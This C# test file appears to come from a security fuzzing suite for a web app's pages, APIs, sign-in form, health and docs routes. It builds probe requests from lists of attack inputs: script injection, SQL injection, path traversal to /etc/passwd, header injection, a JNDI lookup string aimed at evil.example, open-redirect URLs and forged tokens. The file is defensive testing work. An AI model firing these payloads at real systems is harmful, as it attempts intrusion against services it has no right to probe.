namespace Liberterra.Web.Tests;

/// <summary>The callers' names, and the generators for every endpoint outside the returns API: reads, admin, audit, pages, sign-in, health and docs.</summary>
internal static partial class HostileRequests
{
    internal const string Revoked = "revoked key";
    internal const string Forged = "forged key";
    internal const string Malformed = "malformed key";
    internal const string Enormous = "enormous key";
    internal const string AdminSession = "admin session";
    internal const string AnalystSession = "analyst session";
    internal const string SignInForm = "sign-in form";

    private static readonly string[] AllCallers =
        [Admin, Spain, France, AnalystCaller, Nobody, Revoked, Forged, Malformed, Enormous, AdminSession, AnalystSession, SignInForm];


    /// <summary>Query values as they travel, percent-encoded: markup, SQL, traversal, encodings and sizes no parameter expects.</summary>
    private static readonly string[] HostileQueryValues =
    [
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "%22%3E%3Csvg%20onload%3Dalert(1)%3E", "%27%20onmouseover%3D%27alert(1)", "javascript:alert(1)",
        "%27%20OR%201%3D1--", "..%2F..%2Fetc%2Fpasswd", "../../etc/passwd", "%00", "a%00b", "%ff%fe", "%c0%ae%c0%ae", "%E2%80%AE", "", "%20", "asc", "desc",
        "DESC", "arrests", "ARRESTS", "victimsMinors", "country", "lastUpdated", "Europe", "europe", "Narnia", new string('a', 5000), "%25", "%2B", "1e400",
        "-1", "99999999999999999999", "null", "[]", "%7B%7D", "%0d%0aSet-Cookie:%20x=y", "%7B%7B7*7%7D%7D", "%24%7Bjndi:ldap://evil.example/a%7D",
        "%EF%BC%A5%EF%BC%B3%EF%BC%B0", "ESP", "esp", "%3D1%2B2", "%40SUM(1)",
    ];

    private static readonly string[] PagePaths =
    [
        "/", "/Index", "/compare", "/reconciliation", "/account/sign-in", "/account/sign-out", "/account/denied",
        "/operations/{code}", "/operations/{code}/countries/{iso3}", "/operations/{code}/completeness", "/operations/{code}/press",
        "/operations/{code}/export/countries.csv", "/operations/{code}/export/timeline.csv",
    ];

    private static readonly string[] DashboardQueryKeys = ["sort", "dir", "region", "q", "metric", "ReturnUrl", "handler", "Sort", "q[]"];

    private static readonly string[] HostileEmails =
    [
        "victim@liberterra.test", "nobody@liberterra.test", "' OR '1'='1", "admin'--", "<script>alert(1)</script>@x.test", "%00@x.test", "a%ffb@x.test",
        "", "%20", new string('e', 5000) + "@x.test", "VICTIM@LIBERTERRA.TEST", "victim@liberterra.test%00", "%E2%80%AEvictim@liberterra.test",
    ];

    private static readonly string[] HostilePasswords =
    [
        "", "wrong", "' OR '1'='1", "%00", "%ff%fe%fd", new string('p', 1025), new string('p', 100_000), "%3Cscript%3E", "victim-password%00", "Victim-Password",
    ];

    private static readonly string[] HostileReturnUrls =
    [
        "//evil.example", "https://evil.example", "javascript:alert(1)", "%2F%2Fevil.example", "/%5Cevil.example", "%5C%5Cevil.example", "/\\evil.example",
        "/operations/drill%0d%0aSet-Cookie:%20x=y", "data:text/html,%3Cscript%3Ealert(1)%3C/script%3E", "/" + new string('a', 5000), "%00", "", "/",
    ];

    private static readonly string[] HostileAccepts =
        ["text/csv", "application/json", "application/xml", "*/*", "text/csv;q=0", "text/*, application/json;q=0.1", "???", "text/csv; charset=utf-16", ""];

    private static string Fill(Random random, string template) => template
        .Replace("{code}", random.Next(3) == 0 ? Pick(random, HostileCodes) : Pick(random, new[] { "drill", "liberterra-iii", CustomCode }), StringComparison.Ordinal)
        .Replace("{iso3}", random.Next(2) == 0 ? Pick(random, HostileCountries) : Pick(random, new[] { "ESP", "FRA", "SEN", "esp", "DEU" }), StringComparison.Ordinal);

    private static string RandomQuery(Random random, IReadOnlyList<string> keys)
    {
        var pairs = Enumerable.Range(0, random.Next(0, 5)).Select(_ => $"{Pick(random, keys)}={Pick(random, HostileQueryValues)}");
        var query = string.Join("&", pairs);
        return query.Length == 0 ? string.Empty : "?" + query;
    }

    private static Probe Get(string path, string caller, params (string Name, string Value)[] headers)
    {
        var draft = new ProbeDraft(path, caller);
        foreach (var (name, value) in headers)
        {
            draft.With(name, value);
        }

        return draft.ToProbe("GET " + Clip(path, 80), null, false, HttpMethod.Get);
    }

    private static Probe ApiRead(Random random)
    {
        var template = Pick(random, new[]
        {
            "/api/v1/operations", "/api/v1/operations/{code}", "/api/v1/operations/{code}/totals", "/api/v1/operations/{code}/regions",
            "/api/v1/operations/{code}/countries", "/api/v1/operations/{code}/timeline", "/api/v1/operations/{code}/completeness", "/api/v1/operations/{code}/dataset",
            "/api/v1/operations/{code}/returns", "/api/v1/operations/{code}/returns/{iso3}/{period}", "/api/v1/operations/{code}/returns/{iso3}/{period}/history",
        });
        var path = Fill(random, template).Replace("{period}", random.Next(2) == 0 ? Pick(random, HostilePeriods) : Pick(random, new[] { "2026-11-01", "all" }), StringComparison.Ordinal)
            + RandomQuery(random, ["region", "country", "date", "limit", "format", "region"]);
        return Get(path, Pick(random, AllCallers), ("Accept", Pick(random, HostileAccepts)));
    }

    /// <summary>Creating, finalising and reopening operations: hostile bodies and codes, or a caller who may not.</summary>
    private static Probe AdminProbe(Random random)
    {
        var caller = random.Next(3) == 0 ? Admin : Pick(random, AllCallers.Where(c => c is not Admin).ToList());
        if (random.Next(3) == 0)
        {
            var fields = new List<KeyValuePair<string, string>>
            {
                new("code", Q("new-op-" + random.Next(1000))), new("name", Q(Pick(random, HostileStrings))), new("startDate", Q("2026-11-01")),
                new("endDate", Q("2026-11-02")), new("participants", "[\"ESP\"]"),
            };
            var mutation = RandomMutation(random);
            mutation.Apply(fields);
            if (caller == Admin)
            {
                Set(fields, "participants", "[\"ESP\",\"XXX\"]"); // the poison: no such country
            }

            var text = Render(fields);
            return new ProbeDraft("/api/v1/operations", caller).ToProbe($"create operation with {mutation.Name}",
                Encode(mutation.Text?.Invoke(text) ?? text, Pick(random, InvalidUtf8)), true);
        }

        // An admin only ever aims at codes that name no operation, so nothing can really be finalised or reopened.
        var code = caller == Admin ? Pick(random, HostileCodes) : Pick(random, new[] { "drill", "liberterra-iii", Pick(random, HostileCodes) });
        var action = Pick(random, new[] { "finalize", "reopen" });
        return new ProbeDraft($"/api/v1/operations/{code}/{action}", caller).ToProbe($"{action} {Clip(code, 30)}",
            random.Next(2) == 0 ? null : Encode(Pick(random, HostileStrings)), true);
    }

    private static Probe AuditProbe(Random random)
    {
        var keys = new[] { "operation", "country", "outcome", "keyId", "from", "to", "beforeId", "limit", "Limit", "limit" };
        var values = HostileQueryValues.Concat(["2026-11-01", "0001-01-01", "9999-12-31T23:59:59Z", "1000", "1001", "0", "9223372036854775808", "rejected"]).ToList();
        var query = string.Join("&", Enumerable.Range(0, random.Next(1, 6)).Select(_ => $"{Pick(random, keys)}={Pick(random, values)}"));
        return Get("/api/v1/audit?" + query, random.Next(2) == 0 ? Admin : Pick(random, AllCallers));
    }

    private static Probe PageProbe(Random random)
    {
        var path = Fill(random, Pick(random, PagePaths)) + RandomQuery(random, DashboardQueryKeys);
        var caller = Pick(random, new[] { AnalystSession, AnalystSession, AdminSession, Nobody, Admin, Forged, Revoked, Enormous });
        var method = random.Next(10) switch
        {
            < 7 => HttpMethod.Get,
            7 => HttpMethod.Head,
            8 => HttpMethod.Post,
            _ => Pick(random, new[] { HttpMethod.Put, HttpMethod.Delete, HttpMethod.Patch, HttpMethod.Options }),
        };
        var draft = new ProbeDraft(path, caller) { ContentType = "application/x-www-form-urlencoded" };
        if (random.Next(4) == 0)
        {
            draft.With(Pick(random, new[] { "Accept", "Accept-Language", "Referer", "If-None-Match", "Cookie", "X-Forwarded-For", "Range" }),
                Pick(random, new[] { "<script>alert(1)</script>", "'; DROP TABLE Users;--", "../../etc/passwd", new string('x', 20_000), "*/*", "bytes=-1", "\u00ff\u00fe" }));
        }

        // A page takes no form without a valid anti-forgery token, so no write through a page can succeed here.
        var body = method == HttpMethod.Get || method == HttpMethod.Head ? null : Encode("__RequestVerificationToken=forged&q=" + Pick(random, HostileQueryValues));
        return draft.ToProbe($"{method} page {Clip(path, 80)}", body, false, method);
    }

    /// <summary>The sign-in form with hostile fields, none of which may sign anyone in (the real password is never sent).</summary>
    private static Probe SignInProbe(Random random, string formToken)
    {
        var token = random.Next(6) switch
        {
            0 => null,
            1 => "CfDJ8" + new string('A', 150),
            2 => string.Empty,
            3 => "%ff%fe" + formToken,
            _ => Uri.EscapeDataString(formToken),
        };
        var fields = new List<string>
        {
            "Email=" + Pick(random, HostileEmails),
            "Password=" + Pick(random, HostilePasswords),
        };
        if (random.Next(2) == 0)
        {
            fields.Add("ReturnUrl=" + Pick(random, HostileReturnUrls));
        }

        if (token is not null)
        {
            fields.Add("__RequestVerificationToken=" + token);
        }

        if (random.Next(5) == 0)
        {
            fields.Add(Pick(random, new[] { "Email=second@x.test", "Password=again", "__proto__=1", new string('f', 3000) + "=1", "=", "&&&", "Email" }));
        }

        var body = string.Join("&", fields.OrderBy(_ => random.Next()));
        var contentType = random.Next(8) == 0
            ? Pick(random, new[] { "application/json", "multipart/form-data; boundary=x", "text/plain", "application/x-www-form-urlencoded; charset=utf-16" })
            : "application/x-www-form-urlencoded";
        var path = DashboardSignIn.SignInPath + (random.Next(4) == 0 ? "?ReturnUrl=" + Pick(random, HostileReturnUrls) : string.Empty);
        var caller = random.Next(4) == 0 ? Pick(random, new[] { Nobody, AnalystSession, Forged }) : SignInForm;
        return new ProbeDraft(path, caller) { ContentType = contentType }.ToProbe("sign-in " + Clip(body, 80), Encode(body + InvalidBytesMarker, Pick(random, InvalidUtf8)), false);
    }

    private static Probe HealthOrDocsProbe(Random random)
    {
        var path = Pick(random, new[]
        {
            "/health/live", "/health/ready", "/health", "/health/%2e%2e/ready", "/swagger", "/swagger/", "/swagger/index.html", "/swagger/v1/swagger.json",
            "/swagger/v2/swagger.json", "/swagger/%2e%2e/appsettings.json", "/swagger/../appsettings.json", "/swagger/index.js", "/swagger/v1/swagger.yaml",
            "/appsettings.json", "/css/site.css", "/js/dashboard.js", "/css/..%2f..%2fappsettings.json", "/favicon.ico", "/swagger/index.html?url=javascript:alert(1)",
        }) + RandomQuery(random, ["url", "configUrl", "format", "x"]);
        var method = random.Next(4) == 0 ? Pick(random, new[] { HttpMethod.Post, HttpMethod.Put, HttpMethod.Delete, HttpMethod.Head, HttpMethod.Options }) : HttpMethod.Get;
        return new ProbeDraft(path, Pick(random, AllCallers)).ToProbe($"{method} {Clip(path, 80)}", method == HttpMethod.Post ? Encode("{}") : null, false, method);
    }

    /// <summary>Every page, export, health and docs route at least once for every caller, and the sign-in form's edge cases.</summary>
    private static IEnumerable<Probe> FixedPageProbes(string formToken)
    {
        var random = new Random(1);
        foreach (var template in PagePaths)
        {
            foreach (var caller in AllCallers)
            {
                yield return Get(template.Replace("{code}", "drill", StringComparison.Ordinal).Replace("{iso3}", "ESP", StringComparison.Ordinal), caller);
            }

            // The custom operation's labels hold markup: every page and export of it must still answer.
            yield return Get(template.Replace("{code}", CustomCode, StringComparison.Ordinal).Replace("{iso3}", "ESP", StringComparison.Ordinal), AnalystSession);

            foreach (var code in HostileCodes)
            {
                yield return Get(template.Replace("{code}", code, StringComparison.Ordinal).Replace("{iso3}", Pick(random, HostileCountries), StringComparison.Ordinal), AnalystSession);
            }
        }

        foreach (var key in DashboardQueryKeys)
        {
            foreach (var value in HostileQueryValues)
            {
                yield return Get($"/operations/drill?{key}={value}", AnalystSession);
                yield return Get($"/operations/drill/export/countries.csv?{key}={value}", AdminSession);
            }
        }

        foreach (var returnUrl in HostileReturnUrls)
        {
            yield return Get($"{DashboardSignIn.SignInPath}?ReturnUrl={returnUrl}", Nobody);
            yield return new ProbeDraft(DashboardSignIn.SignInPath, SignInForm) { ContentType = "application/x-www-form-urlencoded" }
                .ToProbe("sign-in returnUrl " + returnUrl, Encode($"Email=victim@liberterra.test&Password=wrong&ReturnUrl={returnUrl}&__RequestVerificationToken={Uri.EscapeDataString(formToken)}"), false);
        }

        yield return new ProbeDraft("/account/sign-out", AnalystSession) { ContentType = "application/x-www-form-urlencoded" }
            .ToProbe("sign-out with another client's token", Encode($"__RequestVerificationToken={Uri.EscapeDataString(formToken)}"), false);
        yield return new ProbeDraft("/account/sign-out", AdminSession) { ContentType = "application/x-www-form-urlencoded" }.ToProbe("sign-out without a token", Encode(string.Empty), false);
        foreach (var caller in AllCallers)
        {
            yield return HealthOrDocsProbe(random) with { Caller = caller };
            yield return Get("/health/ready", caller);
            yield return Get("/swagger/v1/swagger.json", caller);
        }
    }

}
